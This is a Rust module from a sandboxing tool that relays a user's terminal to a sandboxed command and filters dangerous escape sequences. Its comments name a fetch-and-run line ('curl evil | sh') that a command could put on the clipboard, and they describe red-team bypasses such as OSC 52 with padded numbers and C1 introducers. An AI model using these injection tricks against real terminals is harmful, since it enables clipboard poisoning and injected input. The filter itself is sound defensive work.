//! Joins the caller's terminal to the command's own pseudo-terminal (whole-process mode):
//! keys go to the command, its output to the screen, the window size follows — and when
//! warden must ask the human something, the relay *holds* the command's output and takes the
//! keys for the question, so the command can neither draw over a prompt nor read its answer.
//!
//! The caller's terminal is in raw mode while the relay runs (line editing, echo and ^C are
//! the command's own pty's business, as with ssh or tmux) and gets its settings back when the
//! relay finishes or is dropped.

pub mod keys;

use std::collections::VecDeque;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd, RawFd};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Output held while a question is on screen, at most; beyond it the command waits (its
/// writes block on the full pty) until the question is answered.
const HOLD_LIMIT: usize = 1 << 20;

#[derive(Default)]
struct State {
    /// A question is on screen: output is held, keys are the answer's.
    asking: bool,
    held: Vec<u8>,
    keys: VecDeque<u8>,
    /// Tells the human's keys from the terminal's replies for the question on screen.
    filter: keys::KeyFilter,
    /// The command's side of the terminal closed (it ended).
    closed: bool,
    /// When the command last wrote an escape sequence (a query the terminal may answer).
    last_escape: Option<Instant>,
}

struct Shared {
    state: Mutex<State>,
    changed: Condvar,
    /// Where output and questions go (the caller's terminal).
    out: RawFd,
}

impl Shared {
    fn lock(&self) -> MutexGuard<'_, State> {
        self.state.lock().unwrap_or_else(|p| p.into_inner())
    }
}

/// A handle on the relay that questions go through (cheap to clone).
#[derive(Clone)]
pub struct Console {
    shared: Arc<Shared>,
    /// Serialises questions.
    turn: Arc<Mutex<()>>,
}

impl Console {
    /// Shows `question`, holding the command's output, and returns the first key `accept`
    /// maps to an answer, or `None` after `timeout` (or when the terminal is gone). Whatever
    /// was held is shown afterwards, after `shown(answer)`.
    pub fn ask<A: Copy>(
        &self,
        question: &str,
        timeout: Duration,
        accept: impl Fn(u8) -> Option<A>,
        shown: impl Fn(Option<A>) -> String,
    ) -> Option<A> {
        let _turn = self.turn.lock().unwrap_or_else(|p| p.into_inner());
        let mut st = self.shared.lock();
        st.asking = true;
        st.keys.clear();
        st.filter = keys::KeyFilter::new();
        // Whatever the command's output left the terminal in (an unterminated title string,
        // hidden text), the question shows.
        write_all(self.shared.out, keys::RESET.as_bytes());
        write_all(self.shared.out, question.as_bytes());
        let deadline = Instant::now() + timeout;
        let answer = loop {
            if let Some(a) = st.keys.pop_front().and_then(&accept) {
                break Some(a);
            }
            if !st.keys.is_empty() {
                continue;
            }
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                break None;
            }
            st = self
                .shared
                .changed
                .wait_timeout(st, left)
                .map(|(g, _)| g)
                .unwrap_or_else(|p| p.into_inner().0);
        };
        write_all(self.shared.out, shown(answer).as_bytes());
        let held = std::mem::take(&mut st.held);
        write_all(self.shared.out, &held);
        st.asking = false;
        st.keys.clear();
        self.shared.changed.notify_all();
        answer
    }
}

/// The running relay.
pub struct Relay {
    shared: Arc<Shared>,
    turn: Arc<Mutex<()>>,
    master: Arc<OwnedFd>,
    output: Option<JoinHandle<()>>,
    input: Option<JoinHandle<()>>,
    /// Written to stop the input thread.
    stop: Option<OwnedFd>,
    saved: Option<nix::sys::termios::Termios>,
    /// The caller's terminal (keys, window size).
    input_fd: RawFd,
}

impl Relay {
    /// Starts relaying between the caller's terminal (stdin/stdout) and `master`; puts the
    /// caller's terminal in raw mode.
    pub fn start(master: OwnedFd) -> std::io::Result<Relay> {
        Relay::start_on(libc::STDIN_FILENO, libc::STDOUT_FILENO, master)
    }

    /// [`Relay::start`] on other descriptors than stdin and stdout (which must stay open
    /// while the relay runs).
    pub fn start_on(input: RawFd, out: RawFd, master: OwnedFd) -> std::io::Result<Relay> {
        use nix::sys::termios::{cfmakeraw, tcgetattr, tcsetattr, SetArg};
        // SAFETY: the caller keeps `input` open while the relay runs (documented).
        let input_fd = unsafe { BorrowedFd::borrow_raw(input) };
        let saved = tcgetattr(input_fd).ok();
        if let Some(orig) = &saved {
            let mut raw = orig.clone();
            cfmakeraw(&mut raw);
            tcsetattr(input_fd, SetArg::TCSANOW, &raw)?;
        }
        let shared = Arc::new(Shared {
            state: Mutex::new(State::default()),
            changed: Condvar::new(),
            out,
        });
        let master = Arc::new(master);
        // A socket pair rather than pipe2 (not on macOS): close-on-exec from the start.
        let (stop_read, stop_write) = std::os::unix::net::UnixStream::pair()?;
        let (stop_read, stop_write) = (OwnedFd::from(stop_read), OwnedFd::from(stop_write));
        let output = {
            let (shared, master) = (shared.clone(), master.clone());
            std::thread::Builder::new()
                .name("warden-tty-out".into())
                .spawn(move || pump_output(&shared, master.as_raw_fd()))?
        };
        let input_thread = {
            let (shared, master) = (shared.clone(), master.clone());
            std::thread::Builder::new()
                .name("warden-tty-in".into())
                .spawn(move || pump_input(&shared, input, master.as_raw_fd(), stop_read))?
        };
        Ok(Relay {
            shared,
            turn: Arc::new(Mutex::new(())),
            master,
            output: Some(output),
            input: Some(input_thread),
            stop: Some(stop_write),
            saved,
            input_fd: input,
        })
    }

    pub fn console(&self) -> Console {
        Console {
            shared: self.shared.clone(),
            turn: self.turn.clone(),
        }
    }

    /// The caller's window changed: the command's terminal follows (the kernel sends it
    /// SIGWINCH).
    pub fn resize(&self) {
        if let Some((rows, cols)) = window_size(self.input_fd) {
            let _ = set_window_size(self.master.as_raw_fd(), rows, cols);
        }
    }

    /// After the command ended: shows the rest of its output (waiting up to `grace` for the
    /// terminal to close), stops relaying and restores the caller's terminal.
    pub fn finish(mut self, grace: Duration) {
        let deadline = Instant::now() + grace;
        {
            let mut st = self.shared.lock();
            while !st.closed {
                let left = deadline.saturating_duration_since(Instant::now());
                if left.is_zero() {
                    break;
                }
                st = self
                    .shared
                    .changed
                    .wait_timeout(st, left)
                    .map(|(g, _)| g)
                    .unwrap_or_else(|p| p.into_inner().0);
            }
        }
        self.stop_threads();
    }

    fn stop_threads(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = nix::unistd::write(&stop, b"x");
        }
        // The input thread may be blocked writing to the master, which a command that stopped
        // reading never drains (a flood of terminal replies, a large paste): it gets a moment
        // to see the stop, then is left behind — the caller's terminal is restored and warden
        // exits all the same (it once waited forever, the terminal left raw).
        if let Some(t) = self.input.take() {
            let deadline = Instant::now() + Duration::from_millis(200);
            while !t.is_finished() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(5));
            }
            if t.is_finished() {
                let _ = t.join();
            }
        }
        // The output thread ends when the terminal closes; a sandbox process that outlived
        // the command (it cannot: the pid namespace dies with it) would keep it — not joined.
        if let Some(t) = self.output.take() {
            if self.shared.lock().closed {
                let _ = t.join();
            }
        }
        if let Some(orig) = self.saved.take() {
            // SAFETY: the caller keeps the input descriptor open while the relay runs.
            let input = unsafe { BorrowedFd::borrow_raw(self.input_fd) };
            // A query the command wrote just before it ended is answered by the terminal
            // after the relay stopped: the reply would be typed into the caller's shell
            // (a title report holds text the command chose). A moment for late replies, then
            // what is pending is discarded.
            let recent = self
                .shared
                .lock()
                .last_escape
                .is_some_and(|t| t.elapsed() < Duration::from_secs(2));
            if recent {
                std::thread::sleep(Duration::from_millis(300));
                let _ = nix::sys::termios::tcflush(input, nix::sys::termios::FlushArg::TCIFLUSH);
            }
            let _ = nix::sys::termios::tcsetattr(input, nix::sys::termios::SetArg::TCSANOW, &orig);
        }
    }
}

impl Drop for Relay {
    fn drop(&mut self) {
        self.stop_threads();
    }
}

/// Filters the operating-system commands (`OSC`) the command writes to the caller's
/// terminal: only those a terminal merely displays pass — titles (0, 1, 2), colours (4,
/// 10–19, 104, 110–119), the working directory (7), hyperlinks (8) and shell-integration
/// marks (133, 633) — and every other is dropped whole, clipboard writes first of all (`OSC
/// 52`: a sandboxed command could put `curl evil | sh` on the user's clipboard, red-team
/// round 13; iTerm2's `1337` also writes files and the clipboard, kitty's `5522` the
/// clipboard). The number is read as terminals read it (`052` is 52), and an OSC may start
/// with `ESC ]`, the C1 byte 0x9d or its UTF-8 form `C2 9D` (terminals that honour C1
/// controls; red-team round 15 passed `052` and both C1 forms through). Red-team round 20:
/// window operations that report the title (`CSI 21 t`: text the command set, typed into the
/// caller's input) or move and resize the window are dropped (csi_passes), and so are DCS
/// strings other than sixel graphics (DECRQSS, XTGETTCAP, DECUDK's key programming:
/// dcs_passes) and APC, PM and SOS strings, in `ESC`, raw C1 and UTF-8 C1 form. Everything
/// else passes unchanged; a sequence split across writes is followed across them.
#[derive(Default)]
pub(crate) struct ClipboardFilter {
    state: ClipState,
    /// The introducer and digits of an OSC not yet classified, or a held `ESC`/`C2`.
    pending: Vec<u8>,
    /// Continuation bytes still expected of a UTF-8 character in the text (a 0x9d there is
    /// part of a character, not an introducer).
    utf8_left: u8,
}

#[derive(Default, Clone, Copy, PartialEq, Eq)]
enum ClipState {
    #[default]
    Text,
    /// After `ESC` (held in `pending`).
    Esc,
    /// After a `C2` lead byte in the text (held in `pending`).
    C2,
    /// Reading the OSC's number.
    OscNumber,
    /// Reading a CSI's parameters and intermediates (held in `pending`) up to its final byte.
    Csi,
    /// A CSI too long to hold: dropped up to its final byte.
    CsiDrop,
    /// Reading a DCS's parameters and intermediates (held) up to its final byte, which says
    /// what the string is.
    DcsHead,
    /// Inside an OSC that passes; `true` after an `ESC` or `C2` in it.
    Pass(bool),
    /// Inside an OSC that is dropped; `true` after an `ESC` or `C2` in it.
    Drop(bool),
}

/// Whether `bytes` start an escape sequence a terminal may answer: `ESC`, or a C1 CSI, OSC or
/// DCS introducer — raw (not inside a UTF-8 character) or in UTF-8 (`C2 9B`…): a query in C1
/// form gets its reply too (red-team round 17).
fn starts_a_sequence(bytes: &[u8]) -> bool {
    bytes.iter().enumerate().any(|(i, &b)| {
        let before = i.checked_sub(1).map(|p| bytes[p]);
        b == 0x1b
            || (matches!(b, 0x90 | 0x9b | 0x9d)
                && (before == Some(0xc2) || before.is_none_or(|p| p < 0x80)))
    })
}

/// How many continuation bytes follow the UTF-8 lead byte `b` (0 for any other byte; a C2
/// lead is handled on its own: `C2 9D` is an introducer).
fn continuation_bytes(b: u8) -> u8 {
    match b {
        0xc3..=0xdf => 1,
        0xe0..=0xef => 2,
        0xf0..=0xf7 => 3,
        _ => 0,
    }
}

/// The controls a terminal runs or ignores without leaving an escape sequence: C0 but CAN,
/// SUB and ESC (BEL ends an OSC), and DEL.
fn is_skipped_control(b: u8) -> bool {
    matches!(b, 0x00..=0x06 | 0x08..=0x17 | 0x19 | 0x1c..=0x1f | 0x7f)
}

/// The OSC numbers a terminal only displays.
fn osc_passes(number: u32) -> bool {
    matches!(number, 0..=2 | 4 | 7 | 8 | 10..=19 | 104 | 110..=119 | 133 | 633)
}

/// Longest CSI or DCS head held (parameters and intermediates); a longer one is dropped.
const HEAD_MAX: usize = 64;

/// Whether a whole CSI sequence (`seq`: introducer, parameters, intermediates, final byte)
/// may reach the terminal. All do but xterm's window operations (`CSI Ps ; ... t`) other
/// than the size reports (11–19) and the title stack (22, 23): 20 and 21 report the icon
/// label and the title — text the command set, which the terminal then "types" into the
/// caller's input, after warden may have exited (red-team round 20) — and the rest move,
/// resize, raise or iconify the caller's window. A `t` with a private marker (`CSI > Ps t`
/// sets how titles are reported) or an intermediate is dropped too.
fn csi_passes(seq: &[u8]) -> bool {
    let Some((&last, head)) = seq.split_last() else {
        return true;
    };
    if last != b't' {
        return true;
    }
    let body = match head {
        [0x1b, b'[', rest @ ..] | [0xc2, 0x9b, rest @ ..] | [0x9b, rest @ ..] => rest,
        _ => return false,
    };
    if !body.iter().all(|b| b.is_ascii_digit() || *b == b';') {
        return false;
    }
    let first = body.split(|b| *b == b';').next().unwrap_or_default();
    let number = if first.is_empty() {
        Some(0)
    } else {
        std::str::from_utf8(first)
            .ok()
            .and_then(|d| d.parse::<u32>().ok())
    };
    number.is_some_and(|n| matches!(n, 11..=19 | 22 | 23))
}

/// Whether a DCS whose head (`head`: introducer, parameters, intermediates, final byte) it is
/// passes with its string: only sixel graphics (`q`, no intermediate). The rest are answered
/// with data (DECRQSS `$q`, XTGETTCAP `+q`), program keys whose strings the terminal later
/// types (DECUDK `|`), set termcap entries (`+p`), load fonts or restore state.
fn dcs_passes(head: &[u8]) -> bool {
    let Some((&last, rest)) = head.split_last() else {
        return false;
    };
    last == b'q' && !rest.iter().any(|b| (0x20..=0x2f).contains(b))
}

impl ClipboardFilter {
    /// Appends to `out` what of `input` may reach the terminal.
    pub(crate) fn feed(&mut self, input: &[u8], out: &mut Vec<u8>) {
        for &b in input {
            self.byte(b, out);
        }
    }

    fn byte(&mut self, b: u8, out: &mut Vec<u8>) {
        match self.state {
            ClipState::Text => self.text(b, out),
            // A C0 control (but CAN, SUB and ESC) or DEL inside an escape sequence is run or
            // ignored by the terminal, which stays in the sequence (`ESC BS ]` still opens an
            // OSC; `]0 BS 52` is OSC 052): the control is let through ahead of the held
            // sequence (the terminal runs it either way), DEL dropped, and the sequence read
            // on as the terminal reads it (red-team round 17).
            ClipState::Esc
            | ClipState::OscNumber
            | ClipState::Csi
            | ClipState::CsiDrop
            | ClipState::DcsHead
                if is_skipped_control(b) =>
            {
                if b != 0x7f {
                    out.push(b);
                }
            }
            ClipState::Esc => match b {
                b']' => {
                    self.pending.push(b);
                    self.state = ClipState::OscNumber;
                }
                b'[' => {
                    self.pending.push(b);
                    self.state = ClipState::Csi;
                }
                b'P' => {
                    self.pending.push(b);
                    self.state = ClipState::DcsHead;
                }
                // APC, PM and SOS: nothing a terminal shows as text; kitty's graphics (APC
                // `G`) can make it read and delete files on the host. Dropped whole.
                b'_' | b'^' | b'X' => {
                    self.pending.clear();
                    self.state = ClipState::Drop(false);
                }
                _ => {
                    out.append(&mut self.pending);
                    self.state = ClipState::Text;
                    self.text(b, out);
                }
            },
            ClipState::Csi | ClipState::CsiDrop | ClipState::DcsHead => self.in_head(b, out),
            ClipState::C2 if matches!(b, 0x90 | 0x98 | 0x9b | 0x9e | 0x9f) => {
                self.pending.push(b);
                self.introduced(b);
            }
            ClipState::C2 => {
                if b == 0x9d {
                    self.pending.push(b);
                    self.state = ClipState::OscNumber;
                } else {
                    // An ordinary two-byte character (or a broken one): text.
                    out.append(&mut self.pending);
                    self.utf8_left = 0;
                    self.state = ClipState::Text;
                    if (0x80..0xc0).contains(&b) {
                        out.push(b);
                    } else {
                        self.text(b, out);
                    }
                }
            }
            ClipState::OscNumber => {
                let digits = self
                    .pending
                    .iter()
                    .rev()
                    .take_while(|d| d.is_ascii_digit())
                    .count();
                if b.is_ascii_digit() && digits < 8 {
                    self.pending.push(b);
                    return;
                }
                if b.is_ascii_digit() {
                    // Longer than any number the filter reads (`0000000052` is 52 to a
                    // terminal; red-team round 16): dropped whole.
                    self.pending.clear();
                    self.state = ClipState::Drop(false);
                    return;
                }
                let start = self.pending.len() - digits;
                let number = std::str::from_utf8(&self.pending[start..])
                    .ok()
                    .and_then(|d| d.parse::<u32>().ok());
                let passes = digits > 0 && number.is_some_and(osc_passes);
                if passes {
                    out.append(&mut self.pending);
                    self.state = ClipState::Pass(false);
                    self.in_osc(b, out, true);
                } else {
                    self.pending.clear();
                    self.state = ClipState::Drop(false);
                    self.in_osc(b, out, false);
                }
            }
            ClipState::Pass(_) => self.in_osc(b, out, true),
            ClipState::Drop(_) => self.in_osc(b, out, false),
        }
    }

    /// The state after the C1 introducer `b` (held in `pending`, raw or after a `C2`).
    fn introduced(&mut self, b: u8) {
        self.state = match b {
            0x9b => ClipState::Csi,
            0x90 => ClipState::DcsHead,
            _ => {
                self.pending.clear();
                ClipState::Drop(false)
            }
        };
    }

    /// A byte of a CSI, or of a DCS's head: parameters and intermediates are held up to the
    /// final byte, which decides (csi_passes, dcs_passes). CAN and SUB abort the sequence,
    /// `ESC` aborts it and starts another, and so does any byte past 0x7f (as text).
    fn in_head(&mut self, b: u8, out: &mut Vec<u8>) {
        match b {
            0x20..=0x3f => {
                if self.state == ClipState::CsiDrop {
                    return;
                }
                if self.pending.len() >= HEAD_MAX {
                    self.pending.clear();
                    self.state = if self.state == ClipState::Csi {
                        ClipState::CsiDrop
                    } else {
                        ClipState::Drop(false)
                    };
                    return;
                }
                self.pending.push(b);
            }
            0x40..=0x7e => {
                let state = self.state;
                self.pending.push(b);
                let seq = std::mem::take(&mut self.pending);
                self.state = ClipState::Text;
                match state {
                    ClipState::Csi if csi_passes(&seq) => out.extend_from_slice(&seq),
                    ClipState::DcsHead if dcs_passes(&seq) => {
                        out.extend_from_slice(&seq);
                        self.state = ClipState::Pass(false);
                    }
                    ClipState::DcsHead => self.state = ClipState::Drop(false),
                    _ => {}
                }
            }
            0x1b => self.hold(b, ClipState::Esc),
            0x18 | 0x1a => {
                self.pending.clear();
                self.state = ClipState::Text;
                out.push(b);
            }
            _ => {
                self.pending.clear();
                self.state = ClipState::Text;
                self.text(b, out);
            }
        }
    }

    /// Holds `b` (an `ESC`, a `C2` or an introducer) in `pending`, in `state`.
    fn hold(&mut self, b: u8, state: ClipState) {
        self.pending.clear();
        self.pending.push(b);
        self.state = state;
    }

    fn text(&mut self, b: u8, out: &mut Vec<u8>) {
        if self.utf8_left > 0 && (0x80..0xc0).contains(&b) {
            self.utf8_left -= 1;
            out.push(b);
            return;
        }
        self.utf8_left = 0;
        match b {
            0x1b => self.hold(b, ClipState::Esc),
            0xc2 => self.hold(b, ClipState::C2),
            // A C1 OSC byte on its own (not inside a character).
            0x9d => self.hold(b, ClipState::OscNumber),
            // The other C1 introducers on their own: CSI, DCS, SOS, PM, APC.
            0x90 | 0x98 | 0x9b | 0x9e | 0x9f => {
                self.pending.clear();
                self.pending.push(b);
                self.introduced(b);
            }
            _ => {
                self.utf8_left = continuation_bytes(b);
                out.push(b);
            }
        }
    }

    /// A byte inside an OSC. It ends at BEL or ST (`ESC \\`, 0x9c, `C2 9C`); CAN and SUB
    /// abort it; `ESC` ends it unterminated and starts what follows (red-team round 16: a `C2
    /// ESC` in a title hid the `ESC ]52` after it); a C1 control (another introducer: 0x9d,
    /// `C2 9D`) ends a passing one and is read as text is. Other C0 controls and DEL are
    /// dropped, as terminals ignore them there. UTF-8 characters of the payload pass whole (a
    /// 0x9d inside one is part of the character to a UTF-8 terminal).
    fn in_osc(&mut self, b: u8, out: &mut Vec<u8>, pass: bool) {
        let after = matches!(self.state, ClipState::Pass(true) | ClipState::Drop(true));
        let keep = |out: &mut Vec<u8>, bytes: &[u8]| {
            if pass {
                out.extend_from_slice(bytes);
            }
        };
        // Inside the OSC; `held`: after an `ESC` or `C2` in it.
        let inside = |held: bool| {
            if pass {
                ClipState::Pass(held)
            } else {
                ClipState::Drop(held)
            }
        };
        if after {
            let held = self.pending.pop();
            self.pending.clear();
            match (held, b) {
                (Some(0x1b), b'\\') | (Some(0xc2), 0x9c) => {
                    keep(out, &[held.unwrap_or_default(), b]);
                    self.state = ClipState::Text;
                }
                (Some(0xc2), 0xa0..=0xbf) => {
                    keep(out, &[0xc2, b]);
                    self.state = inside(false);
                }
                (Some(0xc2), 0x80..=0x9f) => {
                    // A C1 control in UTF-8 (`C2 9D` starts a new OSC): the OSC ends here.
                    self.hold(0xc2, ClipState::C2);
                    self.byte(b, out);
                }
                (Some(0xc2), _) => {
                    // A broken character: the C2 is payload, the byte read afresh.
                    keep(out, &[0xc2]);
                    self.state = inside(false);
                    self.in_osc(b, out, pass);
                }
                _ => {
                    // `ESC` and anything but `\\`: the OSC ends unterminated; the ESC starts
                    // what follows.
                    self.hold(0x1b, ClipState::Esc);
                    self.byte(b, out);
                }
            }
            return;
        }
        if self.utf8_left > 0 && (0x80..0xc0).contains(&b) {
            self.utf8_left -= 1;
            keep(out, &[b]);
            return;
        }
        self.utf8_left = 0;
        match b {
            0x07 | 0x9c => {
                keep(out, &[b]);
                self.state = ClipState::Text;
            }
            0x1b | 0xc2 => self.hold(b, inside(true)),
            // CAN and SUB abort the OSC.
            0x18 | 0x1a => {
                self.state = ClipState::Text;
                self.text(b, out);
            }
            // Other C0 controls and DEL: ignored by the terminal inside the OSC; dropped here.
            0x00..=0x1f | 0x7f => {}
            // A C1 control (another sequence's introducer) ends a passing OSC; the byte is
            // then read as text is. A dropped one goes on being dropped to its end.
            0x80..=0x9f if pass => {
                self.state = ClipState::Text;
                self.text(b, out);
            }
            0x80..=0x9f => {}
            _ => {
                self.utf8_left = continuation_bytes(b);
                keep(out, &[b]);
            }
        }
    }
}

fn pump_output(shared: &Shared, master: RawFd) {
    let mut buf = vec![0u8; 16 * 1024];
    let mut filter = ClipboardFilter::default();
    let mut shown: Vec<u8> = Vec::with_capacity(buf.len());
    loop {
        // SAFETY: `master` stays open for the relay's lifetime (an Arc held by this thread's
        // spawner and by the relay).
        let fd = unsafe { BorrowedFd::borrow_raw(master) };
        let n = match nix::unistd::read(fd, &mut buf) {
            Ok(0) => break,
            Ok(n) => n,
            Err(nix::Error::EINTR) => continue,
            // EIO: every slave descriptor is closed — the command's side is gone.
            Err(_) => break,
        };
        let mut st = shared.lock();
        while st.asking && st.held.len() >= HOLD_LIMIT {
            st = shared.changed.wait(st).unwrap_or_else(|p| p.into_inner());
        }
        if starts_a_sequence(&buf[..n]) {
            st.last_escape = Some(Instant::now());
        }
        shown.clear();
        filter.feed(&buf[..n], &mut shown);
        if st.asking {
            st.held.extend_from_slice(&shown);
        } else {
            write_all(shared.out, &shown);
        }
    }
    let mut st = shared.lock();
    st.closed = true;
    shared.changed.notify_all();
}

fn pump_input(shared: &Shared, input: RawFd, master: RawFd, stop: OwnedFd) {
    use nix::poll::{poll, PollFd, PollFlags, PollTimeout};
    // SAFETY: the caller of `Relay::start_on` keeps `input` open while the relay runs.
    let stdin = unsafe { BorrowedFd::borrow_raw(input) };
    let mut buf = [0u8; 4096];
    loop {
        let mut fds = [
            PollFd::new(stdin, PollFlags::POLLIN),
            PollFd::new(stop.as_fd(), PollFlags::POLLIN),
        ];
        match poll(&mut fds, PollTimeout::NONE) {
            Ok(_) => {}
            Err(nix::Error::EINTR) => continue,
            Err(_) => return,
        }
        if fds[1].revents().is_some_and(|r| !r.is_empty()) {
            return;
        }
        if fds[0].revents().is_none_or(|r| r.is_empty()) {
            continue;
        }
        let n = match nix::unistd::read(stdin, &mut buf) {
            Ok(0) => return,
            Ok(n) => n,
            Err(nix::Error::EINTR) => continue,
            Err(_) => return,
        };
        let mut st = shared.lock();
        if st.asking {
            if let Some(key) = st.filter.key(&buf[..n]) {
                st.keys.push_back(key);
            }
            shared.changed.notify_all();
        } else {
            drop(st);
            write_all(master, &buf[..n]);
        }
    }
}

fn write_all(fd: RawFd, mut bytes: &[u8]) {
    // SAFETY: callers pass descriptors that stay open while the relay runs (stdout, the
    // master).
    let fd = unsafe { BorrowedFd::borrow_raw(fd) };
    while !bytes.is_empty() {
        match nix::unistd::write(fd, bytes) {
            Ok(0) => return,
            Ok(n) => bytes = &bytes[n..],
            Err(nix::Error::EINTR) | Err(nix::Error::EAGAIN) => continue,
            Err(_) => return,
        }
    }
}

/// The window size of the terminal on `fd`.
pub fn window_size(fd: RawFd) -> Option<(u16, u16)> {
    let mut ws = libc::winsize {
        ws_row: 0,
        ws_col: 0,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: TIOCGWINSZ writes one `winsize` into the struct we own.
    let rc = unsafe { libc::ioctl(fd, libc::TIOCGWINSZ, &mut ws) };
    (rc == 0 && ws.ws_row > 0 && ws.ws_col > 0).then_some((ws.ws_row, ws.ws_col))
}

/// Sets the window size of the terminal on `fd` (the kernel signals SIGWINCH to its
/// foreground process group).
pub fn set_window_size(fd: RawFd, rows: u16, cols: u16) -> std::io::Result<()> {
    let ws = libc::winsize {
        ws_row: rows,
        ws_col: cols,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: TIOCSWINSZ reads one `winsize` from the struct we own.
    if unsafe { libc::ioctl(fd, libc::TIOCSWINSZ, &ws) } != 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

#[cfg(test)]
#[path = "term_tests.rs"]
mod tests;
